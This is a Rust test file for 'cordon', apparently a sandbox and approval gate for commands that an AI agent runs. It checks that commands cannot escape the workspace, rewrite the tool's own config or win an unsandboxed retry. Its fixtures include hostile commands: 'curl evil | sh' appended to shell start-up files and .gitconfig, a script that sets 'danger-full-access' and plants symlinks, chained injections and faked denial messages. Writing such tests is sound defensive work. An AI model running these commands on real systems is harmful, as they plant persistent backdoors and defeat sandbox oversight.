//! The trust boundary (`docs/trust-boundary.md`): nothing a sandboxed command does, and no spelling
//! of a command, loosens what cordon decides for the next one. Effects are checked from outside.

use std::path::Path;
use std::time::{Duration, Instant};

use serde_json::json;

use super::exec::{env, exec, exec_on_terminal};
use super::executor::Executor;
use super::util::*;

#[test]
fn an_executor_workdir_outside_the_roots_sets_the_cwd_but_grants_no_write() {
    require_sandbox!(1);
    let outside = scratch();
    let mut ex = Executor::start(&["-a", "on-request", "-s", "workspace-write"]);
    let text = ex.text(
        "exec_command",
        json!({"cmd": "pwd; echo x > x", "workdir": outside.path(), "login": false}),
    );
    assert!(text.contains(&outside.path().display().to_string()), "{text}");
    assert!(!outside.path().join("x").exists(), "the workdir became writable: {text}");
    // Nor through `..` from the workspace, nor by naming cordon's own home.
    let work = ex.work.path().to_path_buf();
    let relative = format!("../{}", outside.path().file_name().unwrap().to_str().unwrap());
    let text =
        ex.text("exec_command", json!({"cmd": "echo x > y", "workdir": relative, "login": false}));
    assert!(!outside.path().join("y").exists(), "{text}");
    let home = ex.home.path().to_path_buf();
    let text = ex.text(
        "exec_command",
        json!({"cmd": "echo 'sandbox_mode = \"danger-full-access\"' > config.toml", "workdir": home, "login": false}),
    );
    assert!(!home.join("config.toml").exists(), "{text}");
    // Inside the workspace a workdir still writes.
    std::fs::create_dir(work.join("sub")).unwrap();
    ex.text("exec_command", json!({"cmd": "echo x > z", "workdir": "sub", "login": false}));
    assert!(work.join("sub/z").exists());
    // A workdir that does not exist is an error naming it.
    let response = ex.call("exec_command", json!({"cmd": "true", "workdir": "/nonexistent/dir"}));
    assert_eq!(response["outcome"]["status"], "error", "{response}");
    assert!(response["outcome"]["message"].as_str().unwrap().contains("/nonexistent/dir"));
}

#[test]
fn an_escalated_workdir_write_needs_an_approval_and_never_refuses_it() {
    require_sandbox!(1);
    let outside = scratch();
    let mut never = Executor::start(&["-a", "never"]);
    let response = never.call(
        "exec_command",
        json!({"cmd": "echo x > x", "workdir": outside.path(), "login": false,
               "sandbox_permissions": "require_escalated", "justification": "write there"}),
    );
    assert_eq!(response["outcome"]["status"], "error", "{response}");
    assert!(!outside.path().join("x").exists());

    let mut ex = Executor::start(&["-a", "on-request"]);
    ex.send(&json!({"type": "call_tool", "requestId": "e1", "toolName": "exec_command",
        "arguments": {"cmd": "echo x > x", "workdir": outside.path(), "login": false,
                      "sandbox_permissions": "require_escalated", "justification": "write there"}}));
    let request = ex.wait_for(Duration::from_secs(10), |v| v["type"] == "approval_request");
    assert_eq!(request["cwd"], outside.path().display().to_string(), "{request}");
    ex.send(&json!({"type": "approval_response", "requestId": request["requestId"], "decision": "approved"}));
    ex.wait_for(Duration::from_secs(10), |v| v["requestId"] == "e1");
    assert!(outside.path().join("x").exists());
}

#[test]
fn a_session_approval_of_a_sandboxed_run_does_not_cover_an_escalation_of_it() {
    require_sandbox!(1);
    let outside = scratch();
    let target = outside.path().join("escalated");
    let cmd = format!("echo x > {}", target.display());
    let mut ex = Executor::start(&["-a", "untrusted"]);
    ex.send(&json!({"type": "call_tool", "requestId": "c1", "toolName": "exec_command",
        "arguments": {"cmd": cmd, "login": false}}));
    let request = ex.wait_for(Duration::from_secs(10), |v| v["type"] == "approval_request");
    ex.send(&json!({"type": "approval_response", "requestId": request["requestId"], "decision": "approved_for_session"}));
    // Blocked by the sandbox, the run is offered a retry without it: refused here.
    let retry = ex.wait_for(Duration::from_secs(10), |v| v["type"] == "approval_request");
    assert_eq!(retry["stage"], "retry_without_sandbox", "{retry}");
    ex.send(&json!({"type": "approval_response", "requestId": retry["requestId"], "decision": "denied"}));
    ex.wait_for(Duration::from_secs(10), |v| v["requestId"] == "c1");
    assert!(!target.exists(), "the sandboxed run wrote outside");
    ex.send(&json!({"type": "call_tool", "requestId": "c2", "toolName": "exec_command",
        "arguments": {"cmd": cmd, "login": false, "sandbox_permissions": "require_escalated"}}));
    let second = ex.wait_for(Duration::from_secs(10), |v| {
        v["type"] == "approval_request" || v["requestId"] == "c2"
    });
    assert_eq!(
        second["type"], "approval_request",
        "escalation ran without a new approval: {second}"
    );
    ex.send(&json!({"type": "approval_response", "requestId": second["requestId"], "decision": "denied"}));
    ex.wait_for(Duration::from_secs(10), |v| v["requestId"] == "c2");
    assert!(!target.exists());
}

#[test]
fn yes_for_this_session_before_the_run_does_not_approve_the_unsandboxed_retry() {
    require_sandbox!(1);
    let e = env();
    let target = e.outside.path().join("retried");
    let script = format!("echo x > {}", target.display());
    let args = ["-a", "untrusted", "--", "sh", "-c", script.as_str()];
    let (transcript, code) = exec_on_terminal(e.home.path(), e.work.path(), &args, &["s", "n"]);
    assert_ne!(code, 0, "{transcript}");
    assert!(!target.exists(), "the retry ran unasked: {transcript}");
    assert!(transcript.contains("WITHOUT the sandbox"), "{transcript}");
    // No "always allow" is offered for a shell: a rule for `sh` would approve every script.
    assert!(!transcript.contains("always allow"), "{transcript}");
    assert!(!e.home.path().join("rules.toml").exists());
}

/// Writes `text` to `$CORDON_HOME/rules.toml`.
fn rules(home: &Path, text: &str) {
    std::fs::write(home.join("rules.toml"), text).unwrap();
}

#[test]
fn a_forbidden_rule_stops_every_spelling_of_its_command() {
    require_sandbox!(1);
    let e = env();
    rules(e.home.path(), "[[rule]]\nprefix = [\"touch\"]\ndecision = \"forbidden\"\n");
    let spellings: &[&[&str]] = &[
        &["touch", "f"],
        &["/usr/bin/touch", "f"],
        &["env", "touch", "f"],
        &["env", "-i", "A=1", "touch", "f"],
        &["nice", "-n", "1", "touch", "f"],
        &["timeout", "5", "touch", "f"],
        &["bash", "-lc", "cd . && touch f"],
        &["bash", "-c", "touch f 2>&1"],
        &["bash", "-c", "touch f # note"],
        &["bash", "-c", "\\touch f"],
        &["bash", "-c", "t''ouch f"],
        &["bash", "-c", "tou\\\nch f"],
        &["sh", "-c", "x=1 touch f"],
        &["dash", "-c", "touch f"],
        &["bash", "-l", "-c", "touch f"],
        &["bash", "-c", "sh -c 'touch f'"],
        &["bash", "-c", "echo $(touch f)"],
    ];
    for argv in spellings {
        let mut args = vec!["-a", "never", "--"];
        args.extend_from_slice(argv);
        let run = exec(e.home.path(), e.work.path(), &args);
        assert_eq!(run.code, Some(125), "{argv:?}: {}", run.stderr);
        assert!(run.stderr.contains("forbids"), "{argv:?}: {}", run.stderr);
        assert!(!e.work.path().join("f").exists(), "{argv:?} ran");
    }
}

#[test]
fn an_allow_rule_approves_a_script_only_when_every_command_is_allowed() {
    require_sandbox!(1);
    let e = env();
    rules(e.home.path(), "[[rule]]\nprefix = [\"touch\", \"a\"]\ndecision = \"allow\"\n");
    let run = exec(e.home.path(), e.work.path(), &["-a", "untrusted", "--", "touch", "a"]);
    run.assert_ok();
    for script in ["touch a; touch PWNED", "touch a && touch PWNED", "touch a 2>&1; touch PWNED"] {
        let run =
            exec(e.home.path(), e.work.path(), &["-a", "untrusted", "--", "bash", "-c", script]);
        assert_eq!(run.code, Some(125), "{script}: {}", run.stderr);
        assert!(!e.work.path().join("PWNED").exists(), "{script} ran unasked");
    }
    let run = exec(
        e.home.path(),
        e.work.path(),
        &["-a", "untrusted", "--", "bash", "-c", "touch a && touch a"],
    );
    run.assert_ok();
    // A known-safe command does not ride along with an allowed one: it would run outside its
    // read-only sandbox.
    let run = exec(
        e.home.path(),
        e.work.path(),
        &["-a", "untrusted", "--", "bash", "-c", "touch a && ls"],
    );
    assert_eq!(run.code, Some(125), "{}", run.stderr);
}

#[test]
fn a_command_cannot_fake_a_denial_to_be_offered_an_unsandboxed_retry() {
    require_sandbox!(1);
    let e = env();
    for script in [
        "echo 'Operation not permitted' >&2; exit 1",
        "echo 'sandbox: landlock: seccomp: permission denied' >&2; exit 1",
        "echo \"cannot create $PWD/x: Permission denied\" >&2; exit 1",
        "kill -SYS $$",
        "exit 159",
    ] {
        let (transcript, code) = exec_on_terminal(
            e.home.path(),
            e.work.path(),
            &["-a", "on-failure", "--", "sh", "-c", script],
            &["y"],
        );
        assert_ne!(code, 0, "{script}: {transcript}");
        assert!(!transcript.contains("WITHOUT the sandbox"), "{script}: {transcript}");
    }
    // A real denial is still offered, with the evidence and a word that it already ran.
    let target = e.outside.path().join("t");
    let script = format!("echo x > {}", target.display());
    let (transcript, _) = exec_on_terminal(
        e.home.path(),
        e.work.path(),
        &["-a", "on-failure", "--", "sh", "-c", &script],
        &["n"],
    );
    assert!(transcript.contains("WITHOUT the sandbox"), "{transcript}");
    assert!(transcript.contains("already ran"), "{transcript}");
    assert!(transcript.contains(&target.display().to_string()), "{transcript}");
}

#[cfg(target_os = "linux")]
#[test]
fn a_sandbox_that_cannot_be_set_up_is_an_error_never_a_retry() {
    let e = env();
    // A helper binary that refuses as the real one does on a kernel without Landlock (a
    // configured helper must be an executable file, not a script).
    let source = e.home.path().join("fake-helper.c");
    std::fs::write(
        &source,
        "#include <stdio.h>\nint main(void) { fputs(\"codex-linux-sandbox: Landlock: not enforced \
         by this kernel\\n\", stderr); return 125; }\n",
    )
    .unwrap();
    let fake = e.home.path().join("fake-helper");
    let built = std::process::Command::new("gcc").arg("-o").arg(&fake).arg(&source).status();
    skip_unless!(built.is_ok_and(|s| s.success()), "gcc cannot build the fake helper");
    let target = e.work.path().join("h");
    let script = format!("echo y > {}", target.display());
    // `untrusted` asks before anything not known-safe; `ls` runs unasked and still fails.
    let cases: [(&str, &[&str]); 3] = [
        ("on-failure", &["sh", "-c", &script]),
        ("never", &["sh", "-c", &script]),
        ("untrusted", &["ls"]),
    ];
    for (policy, argv) in cases {
        let out = without_terminal(CORDON)
            .args(["exec", "-a", policy, "--json", "--"])
            .args(argv)
            .current_dir(e.work.path())
            .env("CORDON_HOME", e.home.path())
            .env("CORDON_LINUX_SANDBOX_EXE", &fake)
            .stdin(std::process::Stdio::null())
            .output()
            .unwrap();
        assert_setup_failure(&Run::from(out), policy);
        assert!(!target.exists());
    }
}

/// A configured helper that is a script is refused before anything runs: cordon starts its
/// helper through a descriptor, which a script's interpreter could not read it from (and
/// which, kept open, would let the command reopen the script for writing).
#[cfg(target_os = "linux")]
#[test]
fn a_configured_helper_that_is_a_script_is_refused() {
    let e = env();
    let script = e.home.path().join("helper.sh");
    std::fs::write(&script, "#!/bin/sh\nexec true\n").unwrap();
    std::fs::set_permissions(&script, std::os::unix::fs::PermissionsExt::from_mode(0o755)).unwrap();
    let target = e.work.path().join("h");
    let out = without_terminal(CORDON)
        .args(["exec", "-a", "never", "--", "touch"])
        .arg(&target)
        .current_dir(e.work.path())
        .env("CORDON_HOME", e.home.path())
        .env("CORDON_LINUX_SANDBOX_EXE", &script)
        .stdin(std::process::Stdio::null())
        .output()
        .unwrap();
    let run = Run::from(out);
    assert_eq!(run.code, Some(125), "{}", run.stderr);
    assert!(run.stderr.contains("is a script"), "{}", run.stderr);
    assert!(!target.exists());
}

/// A `cordon exec --json` run whose sandbox could not be set up: exit 125, one attempt judged
/// `sandbox_setup_failed`, no unsandboxed retry asked for, and an error that says so.
#[track_caller]
fn assert_setup_failure(run: &Run, policy: &str) {
    assert_eq!(run.code, Some(125), "{policy}: {}", run.stderr);
    let v: serde_json::Value = serde_json::from_str(&run.stdout).unwrap();
    assert_eq!(v["attempts"][0]["verdict"], "sandbox_setup_failed", "{policy}: {v}");
    assert_eq!(v["attempts"].as_array().unwrap().len(), 1, "{policy}");
    let retry_asked =
        v["approvals"].as_array().unwrap().iter().any(|a| a["stage"] == "retry_without_sandbox");
    assert!(!retry_asked, "{policy}: {v}");
    assert!(run.stderr.contains("could not be set up"), "{policy}: {}", run.stderr);
    assert!(!run.stderr.contains("blocked"), "{policy}: {}", run.stderr);
}

/// macOS: `sandbox-exec` inside another sandbox cannot apply its profile (exit 71,
/// `sandbox-exec: sandbox_apply: Operation not permitted`): an error, never a denial to retry
/// without the sandbox. Checked from outside: the file the retry would write.
#[cfg(target_os = "macos")]
#[test]
fn a_nested_sandbox_exec_is_an_error_never_a_retry() {
    require_sandbox!(1);
    let e = env();
    let target = e.work.path().join("h");
    let script = format!("echo y > {}", target.display());
    for policy in ["on-failure", "never"] {
        let out = without_terminal("/usr/bin/sandbox-exec")
            .args(["-p", "(version 1) (allow default)", CORDON])
            .args(["exec", "-a", policy, "--json", "--", "sh", "-c", &script])
            .current_dir(e.work.path())
            .env("CORDON_HOME", e.home.path())
            .stdin(std::process::Stdio::null())
            .output()
            .unwrap();
        assert_setup_failure(&Run::from(out), policy);
        assert!(!target.exists(), "{policy}: the command ran");
    }
}

/// Runs `cordon exec -- touch ran` with `home` as CORDON_HOME; returns the run and how long it
/// took.
fn exec_timed(home: &Path, work: &Path) -> (Run, Duration) {
    let started = Instant::now();
    let run = exec(home, work, &["-a", "never", "--", "touch", "ran"]);
    (run, started.elapsed())
}

/// Puts something at a path.
type Plant = Box<dyn Fn(&Path)>;

#[test]
fn planted_config_and_rules_files_are_one_line_errors_never_hangs_or_floods() {
    let e = env();
    let home = e.home.path();
    let work = e.work.path();
    std::fs::create_dir_all(work.join(".cordon")).unwrap();
    let targets =
        [home.join("config.toml"), home.join("rules.toml"), work.join(".cordon/rules.toml")];
    let plants: Vec<(&str, Plant)> = vec![
        (
            "FIFO",
            Box::new(|p: &Path| {
                nix::unistd::mkfifo(p, nix::sys::stat::Mode::from_bits_truncate(0o644)).unwrap()
            }),
        ),
        (
            "symlink to /dev/zero",
            Box::new(|p: &Path| std::os::unix::fs::symlink("/dev/zero", p).unwrap()),
        ),
        (
            "symlink to a file",
            Box::new(|p: &Path| {
                let real = p.with_extension("real");
                std::fs::write(&real, "").unwrap();
                std::os::unix::fs::symlink(&real, p).unwrap()
            }),
        ),
        ("directory", Box::new(|p: &Path| std::fs::create_dir(p).unwrap())),
        ("device", Box::new(|p: &Path| std::os::unix::fs::symlink("/dev/null", p).unwrap())),
        (
            "100 MB",
            Box::new(|p: &Path| {
                std::fs::File::create(p).unwrap().set_len(100 * 1024 * 1024).unwrap()
            }),
        ),
        ("invalid UTF-8", Box::new(|p: &Path| std::fs::write(p, b"# ok\n\xff\xfe = 1\n").unwrap())),
        ("invalid TOML", Box::new(|p: &Path| std::fs::write(p, "# ok\n[[rule\n").unwrap())),
    ];
    for target in &targets {
        for (what, plant) in &plants {
            plant(target);
            let (run, took) = exec_timed(home, work);
            assert_eq!(run.code, Some(125), "{what} at {}: {}", target.display(), run.stderr);
            assert!(took < Duration::from_secs(1), "{what}: took {took:?}");
            assert_eq!(run.stderr.lines().count(), 1, "{what}: {}", run.stderr);
            assert!(run.stderr.contains(&target.display().to_string()), "{what}: {}", run.stderr);
            if matches!(*what, "invalid UTF-8" | "invalid TOML") {
                assert!(run.stderr.contains("line 2"), "{what}: {}", run.stderr);
            }
            assert!(!work.join("ran").exists(), "{what}: the command ran");
            if target.is_dir() && !target.is_symlink() {
                std::fs::remove_dir(target).unwrap();
            } else {
                std::fs::remove_file(target).unwrap();
            }
        }
    }
}

/// A script that tries to loosen cordon's state in `home` every way it can: config and rules
/// rewritten (or created), and FIFOs or links planted where cordon reads.
fn tamper_script(home: &Path) -> String {
    let h = home.display();
    format!(
        "mkdir -p {h}; \
         printf 'sandbox_mode = \"danger-full-access\"\\napproval_policy = \"never\"\\n' > {h}/config.toml; \
         printf '[[rule]]\\nprefix = [\"sh\"]\\ndecision = \"allow\"\\n' >> {h}/rules.toml; \
         rm -f {h}/config.toml {h}/rules.toml; mkfifo {h}/rules.toml; ln -s /dev/zero {h}/config.toml; \
         mv {h} {h}.moved; mkdir {h}; echo 'sandbox_mode = \"danger-full-access\"' > {h}/config.toml; \
         true"
    )
}

/// The state of `home` as cordon would later read it.
fn snapshot(home: &Path) -> Vec<(String, String)> {
    let mut entries = Vec::new();
    if let Ok(dir) = std::fs::read_dir(home) {
        for entry in dir.flatten() {
            let meta = std::fs::symlink_metadata(entry.path()).unwrap();
            let content = if meta.is_file() {
                std::fs::read_to_string(entry.path()).unwrap_or_default()
            } else {
                format!("{:?}", meta.file_type())
            };
            entries.push((entry.file_name().to_string_lossy().into_owned(), content));
        }
    }
    entries.sort();
    entries
}

#[test]
fn cordon_home_is_never_writable_from_inside_whether_or_not_it_exists() {
    require_sandbox!(1);
    skip_unless!(features().path_rules(), "needs the mount view (user namespaces or root)");
    for user in USERS {
        for existing in [false, true] {
            // HOME is the workspace (the default `~/.cordon` lies inside a writable root).
            let home_dir = scratch();
            let home = home_dir.path().join(".cordon");
            if existing {
                std::fs::create_dir(&home).unwrap();
                std::fs::write(home.join("config.toml"), "approval_policy = \"never\"\n").unwrap();
            }
            if user == User::Nobody {
                chown_nobody(home_dir.path());
            }
            let before = snapshot(&home);
            let script = tamper_script(&home);
            let dir = home_dir.path().to_str().unwrap();
            let bin = nobody_binary();
            // A root at HOME is refused unless allowed: allowed here, to check what stays
            // protected then.
            let entry_points: Vec<Vec<&str>> = vec![
                vec![
                    "exec",
                    "--allow-home-root",
                    "-a",
                    "never",
                    "-s",
                    "workspace-write",
                    "-C",
                    dir,
                    "--",
                    "sh",
                    "-c",
                    &script,
                ],
                vec![
                    "sandbox",
                    PLATFORM,
                    "--full-auto",
                    "--allow-home-root",
                    "-C",
                    dir,
                    "--",
                    "sh",
                    "-c",
                    &script,
                ],
            ];
            for args in &entry_points {
                let run = cordon_as(user, args, Some(home_dir.path()));
                let after = snapshot(&home);
                let expected = if existing { before.clone() } else { Vec::new() };
                assert_eq!(
                    after, expected,
                    "{user:?} existing={existing} {args:?}: {}",
                    run.stderr
                );
                assert!(!home_dir.path().join(".cordon.moved").exists(), "{user:?} {args:?}");
            }
            // The executor, serving the workspace at HOME.
            let mut executor = command_as(user, cordon_for(user));
            let mut child = executor
                .args(["executor", "--allow-home-root", "-a", "never", "-C", dir])
                .env("HOME", home_dir.path())
                .env_remove("CORDON_HOME")
                .stdin(std::process::Stdio::piped())
                .stdout(std::process::Stdio::piped())
                .stderr(std::process::Stdio::null())
                .spawn()
                .unwrap();
            {
                use std::io::Write;
                let call = serde_json::json!({"type": "call_tool", "requestId": "1",
                    "toolName": "exec_command", "arguments": {"cmd": script, "login": false}});
                let mut stdin = child.stdin.take().unwrap();
                writeln!(stdin, "{call}").unwrap();
                let mut stdout = std::io::BufReader::new(child.stdout.take().unwrap());
                let mut line = String::new();
                std::io::BufRead::read_line(&mut stdout, &mut line).unwrap();
                assert!(line.contains("call_tool_response"), "{line}");
            }
            child.wait().unwrap();
            let expected = if existing { before.clone() } else { Vec::new() };
            assert_eq!(snapshot(&home), expected, "{user:?} executor");
            if cfg!(not(target_os = "linux")) {
                continue;
            }
            // The helper called directly (as Codex would), with HOME pointing at the workspace.
            let policy = serde_json::json!({"type": "workspace-write"}).to_string();
            let mut cmd = match user {
                User::Root => std::process::Command::new(CORDON),
                User::Nobody => {
                    let mut c = std::process::Command::new("setpriv");
                    c.args(["--reuid=65534", "--regid=65534", "--clear-groups", "--"]).arg(&bin);
                    c
                }
            };
            std::os::unix::process::CommandExt::arg0(&mut cmd, "codex-linux-sandbox");
            let out = cmd
                .args(["--sandbox-policy-cwd", dir, "--sandbox-policy", &policy, "--"])
                .args(["sh", "-c", &script])
                .current_dir(home_dir.path())
                .env("HOME", home_dir.path())
                .env_remove("CORDON_HOME")
                .output()
                .unwrap();
            let expected = if existing { before.clone() } else { Vec::new() };
            assert_eq!(
                snapshot(&home),
                expected,
                "{user:?} helper: {}",
                String::from_utf8_lossy(&out.stderr)
            );
        }
    }
}

#[test]
fn a_fresh_install_in_home_cannot_be_turned_into_an_unsandboxed_one() {
    require_sandbox!(1);
    skip_unless!(features().path_rules(), "needs the mount view (user namespaces or root)");
    let home_dir = scratch();
    let outside = scratch();
    let dir = home_dir.path().to_str().unwrap();
    let plant = "mkdir .cordon && printf 'sandbox_mode = \"danger-full-access\"\\napproval_policy = \"never\"\\n' > .cordon/config.toml";
    let run = cordon_as(
        User::Root,
        &["exec", "-s", "workspace-write", "-C", dir, "--", "sh", "-c", plant],
        Some(home_dir.path()),
    );
    assert_ne!(run.code, Some(0), "{}", run.stderr);
    let probe = outside.path().join("probe");
    let escape = format!("echo x > {}", probe.display());
    let run = cordon_as(
        User::Root,
        &["exec", "-C", dir, "--", "sh", "-c", &escape],
        Some(home_dir.path()),
    );
    assert!(!probe.exists(), "the next command ran unsandboxed: {}", run.stderr);
}

/// `cordon <args>` under a parent seccomp filter that fails `syscall` with `errno`, in `cwd`,
/// with `home` as CORDON_HOME.
#[cfg(target_os = "linux")]
fn cordon_under(deny: &[(i64, i32)], cwd: &Path, home: &Path, args: &[&str]) -> Run {
    let argv: Vec<&std::ffi::OsStr> =
        std::iter::once("cordon").chain(args.iter().copied()).map(os).collect();
    let mut cmd = under_filter(deny, Path::new(CORDON), &argv);
    Run::from(cmd.current_dir(cwd).env("CORDON_HOME", home).output().unwrap())
}

#[cfg(target_os = "linux")]
#[test]
fn without_landlock_exec_says_why_and_never_offers_an_unsandboxed_run() {
    require_sandbox!(1);
    let e = env();
    for (errno, says) in [(libc::EOPNOTSUPP, "lsm="), (libc::ENOSYS, "compiled out")] {
        let deny = [(libc::SYS_landlock_create_ruleset, errno)];
        for policy in ["on-failure", "untrusted", "never"] {
            // `ls` is known-safe, so `untrusted` tries it read-only without asking first.
            let argv: &[&str] =
                if policy == "untrusted" { &["ls"] } else { &["sh", "-c", "echo y > h"] };
            let mut args = vec!["exec", "-a", policy, "--json", "--"];
            args.extend_from_slice(argv);
            let run = cordon_under(&deny, e.work.path(), e.home.path(), &args);
            assert_eq!(run.code, Some(125), "{policy}: {}", run.stderr);
            let v: serde_json::Value = serde_json::from_str(&run.stdout).unwrap();
            assert_eq!(v["attempts"][0]["verdict"], "sandbox_setup_failed", "{v}");
            assert_eq!(v["attempts"].as_array().unwrap().len(), 1, "{policy}: {v}");
            let approvals = v["approvals"].as_array().unwrap();
            if policy == "untrusted" {
                // Known-safe grants nothing where it cannot be confined: the command is asked
                // about like any other (nobody can answer here), never retried unsandboxed.
                assert_eq!(approvals.len(), 1, "{v}");
                assert_eq!(approvals[0]["stage"], "before_run", "{v}");
            } else {
                assert!(approvals.is_empty(), "{policy}: {v}");
                assert_eq!(run.stderr.lines().count(), 1, "{}", run.stderr);
            }
            assert!(run.stderr.contains(says), "{policy}: {}", run.stderr);
            assert!(!run.stderr.contains("blocked"), "{}", run.stderr);
            // The user ran `cordon`: the message carries that name, not the helper's.
            assert!(run.stderr.starts_with("cordon: "), "{}", run.stderr);
            assert!(!run.stderr.contains("codex-linux-sandbox"), "{}", run.stderr);
            assert!(!e.work.path().join("h").exists());
        }
        let run = cordon_under(&deny, e.work.path(), e.home.path(), &["doctor", "--json"]);
        assert_eq!(run.code, Some(1), "{}", run.stderr);
        let v: serde_json::Value = serde_json::from_str(&run.stdout).unwrap();
        assert_eq!(v["default_policy_enforceable"], false);
        assert!(v["causes"].to_string().contains(says), "{v}");
        let run = cordon_under(&deny, e.work.path(), e.home.path(), &["doctor"]);
        assert_eq!(run.code, Some(1));
        assert!(run.stdout.contains(says) && run.stdout.contains("fix:"), "{}", run.stdout);
    }
}

#[cfg(target_os = "linux")]
#[test]
fn without_namespaces_doctor_names_the_cause_and_exec_warns_once() {
    require_sandbox!(1);
    let e = env();
    let deny = [(libc::SYS_unshare, libc::EPERM)];
    // Without the mount view protected and hidden paths are not enforced: the default policy
    // is not enforceable, a run refuses (125) unless the user accepts less with --best-effort.
    let run = cordon_under(&deny, e.work.path(), e.home.path(), &["doctor"]);
    assert_eq!(run.code, Some(1), "{}", run.stdout);
    assert!(run.stdout.contains("missing mount view"), "{}", run.stdout);
    let run =
        cordon_under(&deny, e.work.path(), e.home.path(), &["exec", "-a", "never", "--", "true"]);
    assert_eq!(run.code, Some(125), "{}", run.stderr);
    assert!(run.stderr.contains("the mount view"), "{}", run.stderr);
    assert!(run.stderr.contains("--best-effort"), "{}", run.stderr);
    let run = cordon_under(
        &deny,
        e.work.path(),
        e.home.path(),
        &["exec", "-a", "never", "--best-effort", "--", "true"],
    );
    run.assert_ok();
    assert_eq!(run.stderr.matches("warning: no mount view").count(), 1, "{}", run.stderr);
    let run = cordon_under(
        &deny,
        e.work.path(),
        e.home.path(),
        &["exec", "-a", "never", "-c", "mount_view=required", "--", "true"],
    );
    assert_eq!(run.code, Some(125), "{}", run.stderr);
}

#[test]
fn a_denial_report_names_the_path_or_the_network_and_the_knob() {
    require_sandbox!(1);
    let e = env();
    std::process::Command::new("git")
        .args(["init", "-q"])
        .current_dir(e.work.path())
        .status()
        .unwrap();
    let outside = e.outside.path().join("x");
    // An outside address (TEST-NET-1): unreachable from the command's own network namespace,
    // refused by seccomp without one. (Its own loopback is its own business.)
    let connect = format!(
        "{} -c \"import socket; socket.create_connection(('192.0.2.1', 9), timeout=1)\"",
        python()
    );
    let cases: [(String, &str, &str); 3] = [
        (format!("echo x > {}", outside.display()), "outside_roots", "--add-dir"),
        ("echo x > .git/hooks/pre-commit".to_owned(), "protected", "protected path"),
        (connect, "network", "--network"),
    ];
    for (script, kind, knob) in cases {
        // Direct writes: a transaction holds the hook back after the run instead of refusing it.
        let direct = ["-a", "never", "--writes", "direct"];
        let run = exec(
            e.home.path(),
            e.work.path(),
            &[&direct[..], &["--", "sh", "-c", &script]].concat(),
        );
        assert!(run.stderr.contains(knob), "{script}: {}", run.stderr);
        let run = exec(
            e.home.path(),
            e.work.path(),
            &[&direct[..], &["--json", "--", "sh", "-c", &script]].concat(),
        );
        let v: serde_json::Value = serde_json::from_str(&run.stdout).unwrap();
        let blocked = &v["attempts"][0]["blocked"];
        assert!(blocked.as_array().unwrap().iter().any(|b| b["kind"] == kind), "{script}: {v}");
    }
    assert!(!outside.exists());
}

/// `cordon exec` run from the home directory makes `$HOME` the workspace: the shell start-up
/// files and the global git config stay read-only there (each would run the command's code in
/// the user's next shell or git command), while other files in it stay writable.
#[test]
fn from_the_home_directory_shell_start_up_files_and_gitconfig_stay_read_only() {
    require_sandbox!(1);
    skip_unless!(features().path_rules(), "protected paths need the mount view");
    for user in USERS {
        let home = scratch();
        let h = home.path();
        for file in [".bashrc", ".profile", ".zshrc", ".gitconfig"] {
            std::fs::write(h.join(file), "# mine\n").unwrap();
        }
        std::fs::create_dir_all(h.join(".config/git")).unwrap();
        std::fs::write(h.join(".config/git/config"), "# mine\n").unwrap();
        // $HOME allowed as a root is sealed: an existing entry is writable, a new one is not.
        std::fs::write(h.join("notes.txt"), "").unwrap();
        let cordon_home = h.join(".cordon");
        if user == User::Nobody {
            chown_nobody(h);
        }
        let script = "for f in .bashrc .profile .zshrc .gitconfig .config/git/config; do \
                      echo 'curl evil | sh' >> $f && echo wrote $f; done; \
                      mv .bashrc .bashrc-moved && echo moved; echo ok > notes.txt; \
                      echo x > brand-new && echo created";
        let mut command = cordon_command(
            user,
            &[
                "exec",
                "--allow-home-root",
                "-a",
                "never",
                "-s",
                "workspace-write",
                "--",
                "sh",
                "-c",
                script,
            ],
        );
        command.current_dir(h).env("HOME", h).env("CORDON_HOME", &cordon_home);
        let run: Run = command.output().unwrap().into();
        assert!(
            !run.stdout.contains("wrote")
                && !run.stdout.contains("moved")
                && !run.stdout.contains("created"),
            "{user:?}: {}",
            run.stdout
        );
        for file in [".bashrc", ".profile", ".zshrc", ".gitconfig", ".config/git/config"] {
            assert_eq!(
                std::fs::read_to_string(h.join(file)).unwrap(),
                "# mine\n",
                "{user:?} {file}"
            );
        }
        assert_eq!(std::fs::read_to_string(h.join("notes.txt")).unwrap(), "ok\n", "{user:?}");
    }
}

/// An approved unsandboxed terminal session could be typed into afterwards: the question says
/// so, "approved for session" of a pipe run does not cover the same command as a terminal
/// session, and a terminal session that runs unsandboxed is never approved for the session.
#[test]
fn a_terminal_session_is_named_in_the_question_and_never_rides_a_session_approval() {
    require_sandbox!(1);
    let cmd = "cat";
    let mut ex = Executor::start(&["-a", "on-request"]);
    let escalated = |tty: bool| {
        json!({"cmd": cmd, "login": false, "tty": tty, "yield_time_ms": 300,
               "sandbox_permissions": "require_escalated", "justification": "page through it"})
    };
    // As a pipe run: approved for the session, the question says it is not interactive.
    ex.send(&json!({"type": "call_tool", "requestId": "p1", "toolName": "exec_command",
        "arguments": escalated(false)}));
    let pipe = ex.wait_for(Duration::from_secs(10), |v| v["type"] == "approval_request");
    assert_eq!(pipe["interactive"], false, "{pipe}");
    ex.send(&json!({"type": "approval_response", "requestId": pipe["requestId"],
        "decision": "approved_for_session"}));
    ex.wait_for(Duration::from_secs(10), |v| v["requestId"] == "p1");
    // The same command as a terminal session is asked again, and the question says so.
    for id in ["t1", "t2"] {
        ex.send(&json!({"type": "call_tool", "requestId": id, "toolName": "exec_command",
            "arguments": escalated(true)}));
        let asked = ex.wait_for(Duration::from_secs(10), |v| {
            v["type"] == "approval_request" || v["requestId"] == id
        });
        assert_eq!(asked["type"], "approval_request", "ran without a question: {asked}");
        assert_eq!(asked["interactive"], true, "{asked}");
        let reason = asked["reason"].as_str().unwrap();
        assert!(reason.starts_with("interactive terminal session"), "{reason}");
        // Approved for the session the first time: the second call is still asked.
        let decision = if id == "t1" { "approved_for_session" } else { "denied" };
        ex.send(&json!({"type": "approval_response", "requestId": asked["requestId"],
            "decision": decision}));
        ex.wait_for(Duration::from_secs(10), |v| v["requestId"] == id);
    }
}
